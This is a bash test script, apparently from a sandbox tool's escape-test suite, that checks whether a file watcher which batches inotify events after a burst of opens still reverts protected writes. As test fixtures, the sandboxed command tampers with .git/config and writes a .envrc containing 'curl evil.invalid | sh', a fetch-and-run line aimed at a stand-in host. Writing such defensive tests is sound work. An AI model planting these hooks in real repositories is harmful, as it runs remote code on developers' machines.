#!/bin/bash
# Escape class H1, the watcher's cost: every open in a write root queues
# an inotify event (IN_OPEN, which the window checks count), and a watcher
# woken for each one costs the command two context switches per open. It
# lets events gather for a few milliseconds once it has handled a batch
# (SRT__WATCH_BATCH_MS), so a burst of opens wakes it a few times, not
# once per open. What it gathers it still handles: a protected name made
# in a new directory right after a burst is moved aside and reported, and
# a .git/config the host replaced before a burst is covered again.
. "$(dirname "$0")/lib.sh"
need_bwrap
P="$WORK/proj"
command -v git >/dev/null 2>&1 || { skip_rest 3 "git missing"; echo "1..$_tap_n"; exit 0; }
cd "$P" && command git -c init.defaultBranch=main init -q . || exit 1
printf '[core]\n\tbare = false\n' > "$P/.git/config"
S=$(fsjson s '{"denyRead":["~/.ssh","~/.aws"],"allowWrite":["."],"denyWrite":[]}')
N=4000
bg_wait() { local i; for i in $(seq 300); do kill -0 "$1" 2>/dev/null || return 0; sleep 0.1; done; echo "# srt did not end in 30 s: stopped"; kill "$1"; wait "$1"; }
switches() { awk '/^voluntary_ctxt_switches/ { v = $2 } /^nonvoluntary_ctxt_switches/ { n = $2 } END { print v + n }' "/proc/$1/status"; }
echo x > "$P/opened"
# the opens: one process, one file of the write root, read-only
srt__bg -s "$S" -c 'touch started; while [ ! -e go ]; do sleep 0.02; done
	/usr/bin/python3 -c "import os
for i in range('"$N"'): os.close(os.open(\"opened\", os.O_RDONLY))"
	touch burst; while [ ! -e go2 ]; do sleep 0.02; done
	/usr/bin/python3 -c "import os
for i in range('"$N"'): os.close(os.open(\"opened\", os.O_RDONLY))
os.system(\"printf PWN >> .git/config\")
os.mkdir(\"sub\")
open(\"sub/.envrc\", \"w\").write(\"curl evil.invalid | sh\\n\")"
	touch made; while [ ! -e stop ]; do sleep 0.02; done'
pid=$!
wait_for "$P/started" 100
wpid=$(find_watcher "$pid")
if [ -z "$wpid" ]; then
	touch "$P/go" "$P/go2" "$P/stop"; bg_wait "$pid"
	attempt H1 "the watcher gathers events: found the watcher process" false
	echo "1..$_tap_n"; exit 0
fi
sleep 0.2
before=$(switches "$wpid")
touch "$P/go"; wait_for "$P/burst" 300
after=$(switches "$wpid")
woken=$((after - before))
echo "# the watcher was switched to $woken times for $N opens (load: $(cut -d' ' -f1-3 /proc/loadavg))"
attempt H1 "the watcher gathers events: $N opens in a write root wake it far fewer times than $N (woken $woken)" \
	test "$woken" -lt $((N / 8))
# the host replaces .git/config (its cover goes) while the command opens
# files and then writes it
printf '[core]\n\tbare = false\n# host\n' > "$P/.git/config.lock" && mv "$P/.git/config.lock" "$P/.git/config"
touch "$P/go2"; wait_for "$P/made" 300
sleep 0.5
touch "$P/stop"; bg_wait "$pid"
attempt H1 "the watcher gathers events: sub/.envrc made after a burst of opens is moved aside and reported" \
	sh -c "! grep -qs evil.invalid '$P/sub/.envrc' && grep -q 'deny write .*sub/\.envrc' '$WORK/bg.out'"
attempt H1 "the watcher gathers events: a write to the replaced .git/config is undone" \
	sh -c "! grep -q PWN '$P/.git/config' && grep -q '^\[core\]' '$P/.git/config'"
if grep -qs evil.invalid "$P/sub/.envrc" || grep -q PWN "$P/.git/config"; then
	grep -v 'Read-only file system' "$WORK/bg.out" | sed 's/^/# bg.out: /' | head -30
fi
rm -rf "$P"/started "$P"/go "$P"/go2 "$P"/burst "$P"/made "$P"/stop "$P"/opened "$P"/sub
echo "1..$_tap_n"
